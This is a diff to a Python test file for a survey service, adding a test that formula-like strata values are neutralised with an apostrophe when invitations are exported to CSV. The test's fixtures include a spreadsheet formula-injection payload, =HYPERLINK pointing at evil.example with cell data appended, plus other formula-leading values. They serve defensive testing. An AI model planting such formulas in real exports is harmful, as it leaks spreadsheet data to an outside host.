@@ -14,7 +14,10 @@ from survey_service.db.models import Invitation
 from survey_service.domain.invitations.services import (
     CODE_ALPHABET,
     code_hash,
+    create_invitations,
     find_invitation,
+    invitations_csv,
+    read_strata,
     token_hash,
 )
 from tests.conftest import in_thread, migrate
@@ -85,3 +88,14 @@ def test_cli_prints_token_code_link_and_strata_columns(tmp_path: Path) -> None:
     assert mismatch.returncode == 1 and "count is 5 but the strata file has 2 rows" in mismatch.stderr
     missing = run(["invitations", "create", "nope", "--count", "1"], env)
     assert missing.returncode == 1 and "no survey 'nope'" in missing.stderr
+
+
+async def test_strata_that_look_like_formulas_are_neutralised_in_the_invitations_csv(db: Database) -> None:
+    survey = await open_survey(db, access="invitation")
+    hostile = ['=HYPERLINK("https://evil.example/?"&A2)', "+1", "-1", "@SUM(A1)"]
+    header, rows = read_strata("area\n" + "\n".join(f'"{v.replace(chr(34), chr(34) * 2)}"' for v in hostile) + "\n")
+    async with db.write() as session:
+        issued = await create_invitations(session, survey, len(rows), rows)
+    table = list(csv.DictReader(io.StringIO(invitations_csv(issued, header, "https://kysely.example.fi", survey.slug))))
+    assert sorted(r["area"] for r in table) == sorted("'" + v for v in hostile)
+    assert all(not r["area"].startswith(("=", "+", "-", "@")) for r in table)
